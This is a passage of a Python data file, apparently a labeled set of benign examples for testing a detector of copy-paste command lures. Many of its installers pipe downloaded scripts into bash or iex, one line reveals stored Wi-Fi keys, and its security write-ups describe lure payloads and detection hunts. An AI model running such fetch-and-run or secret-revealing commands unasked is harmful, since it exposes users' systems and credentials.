    (GH + "yamadashy/repomix", "npx repomix@latest"),
    (GH + "mixn/carbon-now-cli", "npm i -g carbon-now-cli"),
    (GH + "mermaid-js/mermaid-cli", "npm install -g @mermaid-js/mermaid-cli"),
    (GH + "webdriverio/webdriverio", "npm init wdio@latest ."),
    (GH + "apify/crawlee", "npx crawlee create my-crawler"),
    (GH + "feathersjs/feathers", "npm create feathers@latest my-app"),
    (GH + "drizzle-team/drizzle-orm", "npm i drizzle-orm"),
    (GH + "knex/knex", "npm install knex --save"),
    (GH + "swc-project/swc", "npm i -D @swc/cli @swc/core"),
    (GH + "web-infra-dev/rspack", "npm create rspack@latest"),
    (GH + "egoist/tsup", "npm i tsup -D"),
    (GH + "TypeStrong/ts-node", "npm install -D typescript ts-node"),
    (GH + "raineorshine/npm-check-updates", "npm install -g npm-check-updates"),
    (GH + "webpro-nl/knip", "npm init @knip/config"),
    (GH + "vadimdemedes/ink", "npm install ink react"),
    (GH + "oclif/oclif", "npx oclif generate mynewcli"),
    (GH + "BrowserSync/browser-sync", "npm install -g browser-sync"),
    (GH + "mockoon/mockoon", "npm i -g @mockoon/cli"),
    (GH + "igorshubovych/markdownlint-cli", "npm install -g markdownlint-cli"),
    (GH + "microsoft/pyright", "npm install -g pyright"),
    # Homebrew formulae, taps and casks, as the projects' READMEs give them
    (GH + "charmbracelet/freeze", "brew install charmbracelet/tap/freeze"),
    (GH + "charmbracelet/wishlist", "brew install charmbracelet/tap/wishlist"),
    (GH + "bensadeh/circumflex", "brew install circumflex"),
    (GH + "rcoh/angle-grinder", "brew install angle-grinder"),
    (GH + "peco/peco", "brew install peco"),
    (GH + "jesseduffield/horcrux", "brew install jesseduffield/horcrux/horcrux"),
    (GH + "git-town/git-town", "brew install git-town"),
    (GH + "AGWA/git-crypt", "brew install git-crypt"),
    (GH + "awslabs/git-secrets", "brew install git-secrets"),
    (GH + "sobolevn/git-secret", "brew install git-secret"),
    (GH + "goodwithtech/dockle", "brew install goodwithtech/r/dockle"),
    (GH + "ossf/scorecard", "brew install scorecard"),
    (GH + "open-policy-agent/conftest", "brew install conftest"),
    (GH + "bojand/ghz", "brew install ghz"),
    (GH + "edenhill/kcat", "brew install kcat"),
    (
        GH + "deviceinsight/kafkactl",
        "brew tap deviceinsight/packages\nbrew install deviceinsight/packages/kafkactl",
    ),
    (GH + "achannarasappa/ticker", "brew install achannarasappa/tap/ticker"),
    (GH + "tmate-io/tmate", "brew install tmate"),
    (GH + "homeport/termshot", "brew install homeport/tap/termshot"),
    (GH + "aws/copilot-cli", "brew install aws/tap/copilot-cli"),
    (GH + "kubernetes/kops", "brew install kops"),
    (GH + "k8sgpt-ai/k8sgpt", "brew install k8sgpt"),
    (GH + "txn2/kubefwd", "brew install txn2/tap/kubefwd"),
    (GH + "sunny0826/kubecm", "brew install kubecm"),
    (GH + "boz/kail", "brew tap boz/repo\nbrew install boz/repo/kail"),
    (GH + "johanhaleby/kubetail", "brew tap johanhaleby/kubetail && brew install kubetail"),
    (GH + "Carthage/Carthage", "brew install carthage"),
    (GH + "FelixKratz/JankyBorders", "brew tap FelixKratz/formulae\nbrew install borders"),
    (GH + "iina/iina", "brew install --cask iina"),
    (GH + "th-ch/youtube-music", "brew install th-ch/youtube-music/youtube-music"),
    (GH + "runfinch/finch", "brew install --cask finch"),
    (GH + "ryanoasis/nerd-fonts", "brew install --cask font-hack-nerd-font"),
    (GH + "be5invis/Iosevka", "brew install --cask font-iosevka"),
    (GH + "tonsky/FiraCode", "brew install --cask font-fira-code"),
    (GH + "githubnext/monaspace", "brew install --cask font-monaspace"),
    # Windows: winget, PowerShell Gallery, scripts the projects publish for PowerShell
    (
        GH + "gerardog/gsudo",
        "PowerShell -Command \"Set-ExecutionPolicy RemoteSigned -scope Process; [Net.ServicePointManager]::SecurityProtocol = 'Tls12'; iwr -useb https://raw.githubusercontent.com/gerardog/gsudo/master/installgsudo.ps1 | iex\"",
    ),
    ("https://docs.volta.sh/guide/getting-started", "winget install Volta.Volta"),
    (GH + "NickeManarin/ScreenToGif", "winget install NickeManarin.ScreenToGif"),
    (GH + "xanderfrangos/twinkle-tray", "winget install xanderfrangos.twinkletray"),
    (GH + "File-New-Project/EarTrumpet", "winget install File-New-Project.EarTrumpet"),
    (GH + "windirstat/windirstat", "winget install WinDirStat.WinDirStat"),
    (
        GH + "marticliment/UniGetUI",
        "winget install --exact --id MartiCliment.UniGetUI --source winget",
    ),
    (GH + "AutoHotkey/AutoHotkey", "winget install AutoHotkey.AutoHotkey"),
    (GH + "chrisant996/clink", "winget install chrisant996.Clink"),
    (
        GH + "microsoftgraph/msgraph-sdk-powershell",
        "Install-Module Microsoft.Graph -Scope CurrentUser",
    ),
    (GH + "cmderdev/cmder", "scoop install cmder"),
    # Containers, as the projects' READMEs give them
    (
        "https://containrrr.dev/watchtower/",
        "docker run -d \\\n  --name watchtower \\\n  -v /var/run/docker.sock:/var/run/docker.sock \\\n  containrrr/watchtower",
    ),
    (
        "https://qdrant.tech/documentation/quickstart/",
        'docker run -p 6333:6333 -p 6334:6334 \\\n    -v "$(pwd)/qdrant_storage:/qdrant/storage:z" \\\n    qdrant/qdrant',
    ),
    (
        GH + "swagger-api/swagger-ui",
        "docker pull swaggerapi/swagger-ui\ndocker run -p 80:8080 swaggerapi/swagger-ui",
    ),
    # Kubernetes: kubectl, helm, krew
    (
        GH + "kubernetes/dashboard",
        "helm repo add kubernetes-dashboard https://kubernetes.github.io/dashboard/\nhelm upgrade --install kubernetes-dashboard kubernetes-dashboard/kubernetes-dashboard --create-namespace --namespace kubernetes-dashboard",
    ),
    (
        GH + "rancher/local-path-provisioner",
        "kubectl apply -f https://raw.githubusercontent.com/rancher/local-path-provisioner/v0.0.30/deploy/local-path-storage.yaml",
    ),
    (
        "https://docs.crossplane.io/latest/software/install/",
        "helm repo add crossplane-stable https://charts.crossplane.io/stable\nhelm repo update",
    ),
    (GH + "databus23/helm-diff", "helm plugin install https://github.com/databus23/helm-diff"),
    (GH + "jkroepke/helm-secrets", "helm plugin install https://github.com/jkroepke/helm-secrets"),
    (GH + "chartmuseum/helm-push", "helm plugin install https://github.com/chartmuseum/helm-push"),
    (GH + "robscott/kube-capacity", "kubectl krew install resource-capacity"),
    (GH + "kvaps/kubectl-node-shell", "kubectl krew install node-shell"),
    (GH + "int128/kubelogin", "kubectl krew install oidc-login"),
    (GH + "corneliusweig/ketall", "kubectl krew install get-all"),
    (GH + "ahmetb/kubectl-tree", "kubectl krew install tree"),
    (GH + "eldadru/ksniff", "kubectl krew install sniff"),
    # gh extensions, fisher plugins, gems, system packages, app stores
    (GH + "seachicken/gh-poi", "gh extension install seachicken/gh-poi"),
    (GH + "PatrickF1/fzf.fish", "fisher install PatrickF1/fzf.fish"),
    (GH + "jorgebucaran/nvm.fish", "fisher install jorgebucaran/nvm.fish"),
    (GH + "busyloop/lolcat", "gem install lolcat"),
    (GH + "asciidoctor/asciidoctor", "gem install asciidoctor"),
    (GH + "DavidoTek/ProtonUp-Qt", "flatpak install flathub net.davidotek.pupgui2"),
    # more of the long tail (second pass)
    (GH + "knqyf263/pet", "brew install knqyf263/pet/pet"),
    (GH + "isacikgoz/gitbatch", "go install github.com/isacikgoz/gitbatch/cmd/gitbatch@latest"),
    (
        GH + "guptarohit/asciigraph",
        "go install github.com/guptarohit/asciigraph/cmd/asciigraph@latest",
    ),
    (GH + "rs/jaggr", "go install github.com/rs/jaggr@latest"),
    (GH + "rs/jplot", "brew install rs/tap/jplot"),
    (GH + "gin-gonic/gin", "go get -u github.com/gin-gonic/gin"),
    (GH + "go-chi/chi", "go get -u github.com/go-chi/chi/v5"),
    (GH + "gorilla/mux", "go get -u github.com/gorilla/mux"),
    (GH + "go-gorm/gorm", "go get -u gorm.io/gorm"),
    (GH + "jmoiron/sqlx", "go get github.com/jmoiron/sqlx"),
    (GH + "jackc/pgx", "go get github.com/jackc/pgx/v5"),
    (GH + "redis/go-redis", "go get github.com/redis/go-redis/v9"),
    (GH + "stretchr/testify", "go get github.com/stretchr/testify"),
    (GH + "rs/zerolog", "go get -u github.com/rs/zerolog/log"),
    (GH + "spf13/viper", "go get github.com/spf13/viper"),
    (GH + "golang-jwt/jwt", "go get -u github.com/golang-jwt/jwt/v5"),
    (GH + "google/wire", "go install github.com/google/wire/cmd/wire@latest"),
    (GH + "uber-go/mock", "go install go.uber.org/mock/mockgen@latest"),
    (GH + "99designs/gqlgen", "go run github.com/99designs/gqlgen init"),
    (GH + "nao1215/gup", "go install github.com/nao1215/gup@latest"),
    (GH + "Gelio/go-global-update", "go install github.com/Gelio/go-global-update@latest"),
    (GH + "darkhz/bluetuith", "go install github.com/darkhz/bluetuith@latest"),
    (GH + "mr-karan/doggo", "go install github.com/mr-karan/doggo/cmd/doggo@latest"),
    (GH + "ameshkov/dnslookup", "go install github.com/ameshkov/dnslookup@latest"),
    (GH + "StackExchange/dnscontrol", "go install github.com/StackExchange/dnscontrol/v4@latest"),
    (
        GH + "FiloSottile/yubikey-agent",
        "brew install yubikey-agent\nbrew services start yubikey-agent",
    ),
    (GH + "restic/rest-server", "go install github.com/restic/rest-server/cmd/rest-server@latest"),
    (
        GH + "creativeprojects/resticprofile",
        "go install github.com/creativeprojects/resticprofile@latest",
    ),
    (
        "https://autorestic.vercel.app/installation",
        "wget -qO - https://raw.githubusercontent.com/cupcakearmy/autorestic/master/install.sh | bash",
    ),
    (
        GH + "projectdiscovery/alterx",
        "go install github.com/projectdiscovery/alterx/cmd/alterx@latest",
    ),
    (
        GH + "projectdiscovery/uncover",
        "go install -v github.com/projectdiscovery/uncover/cmd/uncover@latest",
    ),
    (
        GH + "projectdiscovery/cvemap",
        "go install github.com/projectdiscovery/cvemap/cmd/cvemap@latest",
    ),
    (GH + "projectdiscovery/tlsx", "go install github.com/projectdiscovery/tlsx/cmd/tlsx@latest"),
    (
        GH + "projectdiscovery/asnmap",
        "go install github.com/projectdiscovery/asnmap/cmd/asnmap@latest",
    ),
    (
        GH + "projectdiscovery/mapcidr",
        "go install -v github.com/projectdiscovery/mapcidr/cmd/mapcidr@latest",
    ),
    (
        GH + "projectdiscovery/shuffledns",
        "go install -v github.com/projectdiscovery/shuffledns/cmd/shuffledns@latest",
    ),
    (
        GH + "projectdiscovery/cdncheck",
        "go install -v github.com/projectdiscovery/cdncheck/cmd/cdncheck@latest",
    ),
    (GH + "tomnomnom/unfurl", "go install github.com/tomnomnom/unfurl@latest"),
    (GH + "tomnomnom/anew", "go install -v github.com/tomnomnom/anew@latest"),
    (GH + "tomnomnom/qsreplace", "go install github.com/tomnomnom/qsreplace@latest"),
    (GH + "tomnomnom/meg", "go install github.com/tomnomnom/meg@latest"),
    (GH + "tomnomnom/gf", "go install github.com/tomnomnom/gf@latest"),
    (GH + "003random/getJS", "go install github.com/003random/getJS/v2@latest"),
    (GH + "hakluke/hakrevdns", "go install github.com/hakluke/hakrevdns@latest"),
    (GH + "hakluke/haktrails", "go install -v github.com/hakluke/haktrails@latest"),
    (GH + "s0md3v/Smap", "go install -v github.com/s0md3v/smap/cmd/smap@latest"),
    (GH + "s0md3v/uro", "pipx install uro"),
    (GH + "Ciphey/Ciphey", "python3 -m pip install ciphey --upgrade"),
    (GH + "ReFirmLabs/binwalk", "cargo install binwalk"),
    (
        GH + "MobSF/Mobile-Security-Framework-MobSF",
        "docker pull opensecurity/mobile-security-framework-mobsf:latest\ndocker run -it --rm -p 8000:8000 opensecurity/mobile-security-framework-mobsf:latest",
    ),
    (GH + "skylot/jadx", "brew install jadx"),
    (GH + "iBotPeaches/Apktool", "brew install apktool"),
    (GH + "your-tools/ruplacer", "cargo install ruplacer"),
    (GH + "facebookincubator/fastmod", "cargo install fastmod"),
    (GH + "pvolok/mprocs", "cargo install mprocs"),
    (GH + "tarka/xcp", "cargo install xcp"),
    (GH + "timvisee/prs", "cargo install prs-cli --locked"),
    (GH + "str4d/rage", "cargo install rage"),
    (GH + "svenstaro/genact", "cargo install genact"),
    (GH + "rhysd/hgrep", "cargo install hgrep"),
    (GH + "pemistahl/grex", "cargo install grex"),
    (GH + "sstadick/hck", "cargo install hck"),
    (GH + "raphamorim/rio", "cargo install rioterm"),
    (
        "https://docs.lando.dev/install/linux.html",
        '/bin/bash -c "$(curl -fsSL https://get.lando.dev/setup-lando.sh)"',
    ),
    ("https://jfrog.com/getcli/", "curl -fL https://install-cli.jfrog.io | sh"),
    # Python libraries and tools (second pass)
    (GH + "sqlalchemy/alembic", "pip install alembic"),
    (GH + "MagicStack/asyncpg", "pip install asyncpg"),
    (GH + "hynek/stamina", "pip install stamina"),
    (GH + "jazzband/prettytable", "python -m pip install -U prettytable"),
    (GH + "python-pillow/Pillow", "python3 -m pip install --upgrade Pillow"),
    (GH + "librosa/librosa", "pip install librosa"),
    (GH + "asweigart/pyautogui", "pip install pyautogui"),
    (GH + "mhammond/pywin32", "python -m pip install --upgrade pywin32"),
    (GH + "samuelcolvin/watchfiles", "pip install watchfiles"),
    (GH + "agronholm/apscheduler", "pip install apscheduler"),
    (GH + "dynaconf/dynaconf", "pip install dynaconf"),
    (GH + "facebookresearch/hydra", "pip install hydra-core --upgrade"),
    (GH + "pytest-dev/pytest-xdist", "pip install pytest-xdist"),
    (GH + "FactoryBoy/factory_boy", "pip install factory_boy"),
    (GH + "cool-RR/PySnooper", "pip install pysnooper"),
    (GH + "inducer/pudb", "pip install pudb"),
    (GH + "cookiecutter/cookiecutter", "pipx install cookiecutter"),
    (GH + "copier-org/copier", "pipx install copier"),
    (GH + "mkdocstrings/mkdocstrings", "pip install mkdocstrings"),
    (GH + "executablebooks/markdown-it-py", "pip install markdown-it-py"),
    (GH + "jpadilla/pyjwt", "pip install PyJWT"),
    (GH + "tomerfiliba/plumbum", "pip install plumbum"),
    (GH + "cheshirekow/cmake_format", "pip install cmakelang"),
    # JavaScript libraries and tools (second pass)
    (GH + "sindresorhus/pageres-cli", "npm install --global pageres-cli"),
    (GH + "kentcdodds/cross-env", "npm install --save-dev cross-env"),
    (GH + "open-cli-tools/concurrently", "npm i -D concurrently"),
    (GH + "axios/axios", "npm install axios"),
    (GH + "node-fetch/node-fetch", "npm install node-fetch"),
    (GH + "moment/luxon", "npm install --save luxon"),
    (GH + "ajv-validator/ajv", "npm install ajv"),
    (GH + "jaredpalmer/formik", "npm install formik --save"),
    (GH + "remix-run/react-router", "npm i react-router"),
    (GH + "recharts/recharts", "npm install recharts"),
    (GH + "maplibre/maplibre-gl-js", "npm install maplibre-gl"),
    (GH + "konvajs/konva", "npm install konva"),
    (GH + "greensock/GSAP", "npm install gsap"),
    (GH + "ueberdosis/tiptap", "npm install @tiptap/react @tiptap/pm @tiptap/starter-kit"),
    (GH + "microsoft/monaco-editor", "npm install monaco-editor"),
    (GH + "PrismJS/prism", "npm install prismjs"),
    (GH + "markdown-it/markdown-it", "npm install markdown-it"),
    (GH + "sequelize/sequelize", "npm install --save sequelize"),
    (GH + "sidorares/node-mysql2", "npm install --save mysql2"),
    (GH + "taskforcesh/bullmq", "npm install bullmq"),
    (GH + "winstonjs/winston", "npm install winston"),
    (GH + "helmetjs/helmet", "npm install helmet"),
    (GH + "auth0/node-jsonwebtoken", "npm install jsonwebtoken"),
    (GH + "nodemailer/nodemailer", "npm install nodemailer"),
    (GH + "lovell/sharp", "npm install sharp"),
    (GH + "parallax/jsPDF", "npm install jspdf --save"),
    (GH + "i18next/i18next", "npm install i18next --save"),
    # download-and-run installers from the long tail (third pass)
    (
        "https://docs.wakemeops.com/",
        "curl -sSL https://raw.githubusercontent.com/upciti/wakemeops/main/assets/install_repository | sudo bash",
    ),
    (
        "https://wasmedge.org/docs/start/install/",
        "curl -sSf https://raw.githubusercontent.com/WasmEdge/WasmEdge/master/utils/install_v2.sh | bash",
    ),
    (
        GH + "securego/gosec#local-installation",
        "curl -sfL https://raw.githubusercontent.com/securego/gosec/master/install.sh | sh -s -- -b $(go env GOPATH)/bin",
    ),
    (
        GH + "operator-framework/operator-lifecycle-manager",
        "curl -sL https://github.com/operator-framework/operator-lifecycle-manager/releases/download/v0.28.0/install.sh | bash -s v0.28.0",
    ),
    (
        "https://book.kubebuilder.io/quick-start",
        'curl -L -o kubebuilder "https://go.kubebuilder.io/dl/latest/$(go env GOOS)/$(go env GOARCH)"\nchmod +x kubebuilder && sudo mv kubebuilder /usr/local/bin/',
    ),
    (
        GH + "Gozargah/Marzban",
        'sudo bash -c "$(curl -sL https://github.com/Gozargah/Marzban-scripts/raw/master/marzban.sh)" @ install',
    ),
    ("https://cubecoders.com/AMPInstall", "bash <(wget -qO- getamp.sh)"),
    ("https://hacs.xyz/docs/use/download/download/", "wget -O - https://get.hacs.xyz | bash -"),
    (
        "https://documentation.wazuh.com/current/quickstart.html",
        "curl -sO https://packages.wazuh.com/4.9/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
    ),
    (GH + "draios/sysdig", "curl -s https://download.sysdig.com/stable/install-sysdig | sudo bash"),
    (
        GH + "spicetify/marketplace",
        "iwr -useb https://raw.githubusercontent.com/spicetify/marketplace/main/resources/install.ps1 | iex",
    ),
    (GH + "asheroto/winget-install", "irm asheroto.com/winget | iex"),
]

for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://learn.microsoft.com/en-us/windows/dev-environment/javascript/nodejs-on-wsl",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/master/install.sh | bash",
    ),
    (
        "https://v2.tauri.app/start/prerequisites/",
        "sudo apt update\nsudo apt install libwebkit2gtk-4.1-dev build-essential curl wget file libxdo-dev libssl-dev libayatana-appindicator3-dev librsvg2-dev",
    ),
    (
        "https://reactnative.dev/docs/set-up-your-environment",
        "brew install node\nbrew install watchman",
    ),
    (
        "https://github.com/neovim/neovim/blob/master/BUILD.md",
        "sudo apt-get install ninja-build gettext cmake curl build-essential",
    ),
    (
        "https://github.com/pyenv/pyenv/wiki#suggested-build-environment",
        "sudo apt update; sudo apt install build-essential libssl-dev zlib1g-dev \\\nlibbz2-dev libreadline-dev libsqlite3-dev curl git \\\nlibncursesw5-dev xz-utils tk-dev libxml2-dev libxmlsec1-dev libffi-dev liblzma-dev",
    ),
    (
        "https://github.com/neovim/neovim/blob/master/BUILD.md#macos--homebrew",
        "brew install ninja cmake gettext curl",
    ),
    (
        "https://docs.flutter.dev/get-started/install/linux/android",
        "sudo apt-get update -y && sudo apt-get upgrade -y;\nsudo apt-get install -y curl git unzip xz-utils zip libglu1-mesa",
    ),
    (
        "https://github.com/alacritty/alacritty/blob/master/INSTALL.md",
        "rustup override set stable\nrustup update stable",
    ),
    (
        "https://doc.rust-lang.org/book/ch01-01-installation.html",
        "$ curl --proto '=https' --tlsv1.2 https://sh.rustup.rs -sSf | sh",
    ),
    (
        "https://github.com/ohmyzsh/ohmyzsh/wiki/Installing-ZSH",
        "sudo apt install zsh\nchsh -s $(which zsh)",
    ),
    (
        "https://book.leptos.dev/getting_started/index.html",
        "cargo install trunk\nrustup target add wasm32-unknown-unknown",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.corp.example/it/windows/event-logs",
        TERM,
        "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error' | Format-Table TimeCreated, Id, Message -AutoSize",
    ),
    (
        "https://wiki.corp.example/it/network/smb",
        TERM,
        "Test-NetConnection -ComputerName fs-archive02.corp.example -Port 445 -InformationLevel Detailed",
    ),
    (
        "https://wiki.corp.example/it/ad/cleanup",
        TERM,
        "Get-ADUser -Filter 'Enabled -eq $false' -SearchBase 'OU=Staff,DC=corp,DC=example' | Select-Object Name, SamAccountName",
    ),
    ("https://wiki.corp.example/it/ad/replication", TERM, "repadmin /replsummary"),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/deployment/fix-windows-update-errors",
        TERM,
        "DISM.exe /Online /Cleanup-Image /ScanHealth\nDISM.exe /Online /Cleanup-Image /RestoreHealth /LimitAccess",
    ),
    (
        "https://wiki.corp.example/it/gpo/troubleshooting",
        TERM,
        "gpresult /h C:\\Temp\\gpreport.html /f",
    ),
    (
        "https://wiki.corp.example/it/printing/spooler",
        TERM,
        "Get-Service -Name Spooler | Restart-Service -Force",
    ),
    (
        "https://wiki.corp.example/it/dns/split-horizon",
        TERM,
        "Resolve-DnsName intranet.corp.example -Server 10.0.0.10 -Type A",
    ),
    (
        "https://runbooks.corp.example/web/nginx",
        TERM,
        'sudo journalctl -u nginx --since "1 hour ago" --no-pager | tail -n 100',
    ),
    (
        "https://runbooks.corp.example/linux/ports",
        TERM,
        "sudo ss -ltnp '( sport = :443 or sport = :8443 )'",
    ),
    (
        "https://runbooks.corp.example/tls/renewal",
        TERM,
        "sudo certbot certificates && sudo certbot renew --cert-name portal.corp.example --dry-run",
    ),
    (
        "https://runbooks.corp.example/k8s/upgrade",
        TERM,
        "sudo apt-mark hold kubelet kubeadm kubectl",
    ),
    (
        "https://runbooks.corp.example/k8s/deploy",
        TERM,
        "kubectl rollout restart deployment/api -n prod && kubectl rollout status deployment/api -n prod",
    ),
    (
        "https://runbooks.corp.example/db/postgres",
        TERM,
        "psql -U postgres -c \"SELECT pid, state, wait_event, left(query, 60) FROM pg_stat_activity WHERE state <> 'idle';\"",
    ),
    ("https://wiki.corp.example/it/mac/updates", TERM, "sudo softwareupdate -ia --verbose"),
    ("https://wiki.corp.example/it/mac/disks", TERM, "diskutil list\ndiskutil info disk0s2"),
    (
        "https://wiki.corp.example/it/windows/wifi",
        TERM,
        'netsh wlan show profiles\nnetsh wlan show profile name="CorpWiFi" key=clear',
    ),
    (
        "https://runbooks.corp.example/linux/disk-full",
        TERM,
        "sudo du -xh / --max-depth=2 2>/dev/null | sort -rh | head -20",
    ),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.com/questions/1057564/pretty-git-branch-graphs",
        "git log --oneline --graph --all --decorate | head -40",
    ),
    (
        "https://stackoverflow.com/questions/785519/how-do-i-remove-all-pyc-files-from-a-project",
        "find . -name '*.pyc' -delete",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        'docker system df && docker image prune --filter "until=168h" -f',
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 9090 --directory ./build/html",
    ),
    (
        "https://jqlang.org/manual/",
        "jq '.items[] | {name: .metadata.name, phase: .status.phase}' pods.json",
    ),
    (
        "https://stackoverflow.com/questions/15490728/decode-base64-in-bash",
        "echo 'c2VydmljZS1hY2NvdW50Cg==' | base64 --decode",
    ),
    (
        "https://www.openssl.org/docs/manmaster/man1/openssl-s_client.html",
        "openssl s_client -connect mail.example.org:993 -servername mail.example.org </dev/null 2>/dev/null | openssl x509 -noout -issuer -enddate",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent",
        'ssh-keygen -t ed25519 -C "your_email@example.com"',
    ),
    (
        "https://wiki.corp.example/dev/deploy-static",
        "rsync -avz --delete ./public/ deploy@web01:/var/www/site/",
    ),
    (
        "https://wiki.corp.example/dev/backups",
        "tar -czf backup-$(date +%F).tar.gz ~/projects --exclude=node_modules",
    ),
    (
        "https://stackoverflow.com/questions/3096259/bash-command-to-sum-a-column-of-numbers",
        "awk -F, '{sum+=$3} END {print sum}' sales.csv",
    ),
    (
        "https://wiki.corp.example/dev/config-migration",
        "sed -i.bak 's/localhost:5432/db.internal:5432/g' config/database.yml",
    ),
    (
        "https://www.typescriptlang.org/docs/handbook/compiler-options.html",
        "npx tsc --noEmit --pretty",
    ),
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v1.4.0\ngit bisect run pytest -q tests/test_parser.py",
    ),
    (
        "https://docs.github.com/en/rest/repos/repos#get-a-repository",
        'curl -sS -H "Accept: application/vnd.github+json" https://api.github.com/repos/python/cpython | jq .stargazers_count',
    ),
    (
        "https://stackoverflow.com/questions/4681441/how-to-find-which-process-is-listening-on-a-port",
        "lsof -nP -iTCP:5432 -sTCP:LISTEN",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/remove-item",
        "Get-ChildItem -Path .\\logs -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -WhatIf",
    ),
    (
        "https://wiki.corp.example/dev/load-test",
        "seq 1 200 | xargs -P 8 -I{} curl -s -o /dev/null -w '%{http_code}\\n' http://localhost:8080/health | sort | uniq -c",
    ),
    (
        "https://docs.npmjs.com/cli/v10/commands/npm-ci",
        "rm -rf node_modules && npm ci && npm run build",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, command in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "[...document.querySelectorAll('a[target=_blank]')].filter(a => !a.rel.includes('noopener')).length",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(performance.getEntriesByType('resource').map(e => e.name), null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#table",
        "console.table([...document.images].map(i => ({src: i.src, w: i.naturalWidth, h: i.naturalHeight})))",
    ),
    (
        "https://stackoverflow.com/questions/386281/how-to-implement-select-all-check-box-in-html",
        "$$('table#orders tbody tr').length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Intl/NumberFormat",
        "new Intl.NumberFormat('de-DE', { style: 'currency', currency: 'EUR' }).format(1234.5)",
    ),
    (
        "https://wiki.corp.example/dev/frontend-debugging",
        "fetch('/api/v2/status?verbose=1').then(r => r.json()).then(d => console.table(d.services))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.body.contentEditable = 'true'",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "sessionStorage.clear(); location.reload()",
    ),
]:
    ok(CONSOLE, CON, page, command)

# --- Security write-ups quoting lures (defanged or described) -------------------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.threat-notes.example/kongtuke-2026",
        "KongTuke's injected script checks the visitor's browser and then shows a fake verification box. Its clipboard payload is a PowerShell one-liner that downloads from hxxps://tds[.]example/js.php?device=win and pipes the result into iex.",
    ),
    (
        "https://blog.threat-notes.example/clearfake-etherhiding",
        "ClearFake no longer hosts its stage on the compromised site: the loader reads it from a smart contract through a public RPC endpoint (eth_call), so taking down a domain does not stop it.",
    ),
    (
        "https://blog.threat-notes.example/fake-meeting-fixes",
        "Fake Teams and Zoom pages claim the microphone or camera is blocked and offer a 'fix'. The fix is a command copied to the clipboard; victims are told to press Win+R and paste it.",
    ),
    (
        "https://blog.threat-notes.example/odyssey-macos",
        "Odyssey and AMOS lures ask Mac users to open Terminal and paste a base64 string piped into bash. The decoded script downloads a stealer into /tmp, strips the quarantine attribute and runs it.",
    ),
    (
        "https://blog.threat-notes.example/castleloader",
        "CastleLoader campaigns use curl.exe in the Run box to fetch a script and pipe it straight into powershell - (reading from standard input), which hides the stage from command-line logging of the first process.",
    ),
    (
        "https://blog.threat-notes.example/filefix-variants",
        "Newer FileFix pages pad the command with hundreds of non-breaking spaces so that the Explorer address bar only shows something like C:\\Company\\HR\\Policy.docx.",
    ),
    (
        "https://blog.threat-notes.example/discord-console",
        "Scammers in Discord servers ask users to open DevTools and paste a snippet to 'verify' their account. The snippet reads the session token from webpack modules and posts it to a collector.",
    ),
    (
        "https://blog.threat-notes.example/consentfix-defence",
        "To defend against ConsentFix, restrict which first-party apps can be consented to, and alert on authorization codes redeemed from IP addresses that differ from the sign-in.",
    ),
    (
        "https://blog.threat-notes.example/callback-phishing",
        "Callback phishing mails carry no link or attachment: a fake invoice for antivirus renewal asks the victim to call a number, where an operator talks them into installing remote-access software.",
    ),
    (
        "https://blog.threat-notes.example/detections",
        "Hunt for RunMRU entries that contain mshta, powershell with -w hidden, or a URL, and for explorer.exe spawning powershell.exe shortly after a browser had focus.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers, in the 13 languages -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.corp.example/inbox/1",
        "Hi Sam, your laptop replacement is ready for pickup at the IT desk (2nd floor). If you can't make it before Friday, call me on +1 555 010 2233 and I'll bring it over. Thanks, Priya (IT Service Desk)",
    ),
    (
        "https://mail.corp.example/inbox/2",
        "Hallo Frau Becker, Ihr Termin in unserer Werkstatt ist am Dienstag um 9:30 Uhr. Bei Fragen erreichen Sie uns unter 030 555 18 20. Freundliche Grüße, Autohaus Lindner",
    ),
    (
        "https://mail.corp.example/inbox/3",
        "Bonjour, votre colis sera livré demain entre 14h et 18h. Pour changer le créneau, contactez-nous au 01 55 50 42 17. Cordialement, le service client",
    ),
    (
        "https://mail.corp.example/inbox/4",
        "Hola Marta, te confirmo la reserva de la sala de reuniones para el jueves a las 10:00. Si necesitas proyector, llama a recepción: 91 555 23 40.",
    ),
    (
        "https://mail.corp.example/inbox/5",
        "Buongiorno, la ricetta è pronta in farmacia. Per informazioni può chiamare lo 06 5550 1188 dal lunedì al sabato. Farmacia Centrale",
    ),
    (
        "https://mail.corp.example/inbox/6",
        "Olá João, a reunião de condomínio foi remarcada para o dia 12 às 19h. Qualquer dúvida, ligue para a administração: (21) 5555-0134.",
    ),
    (
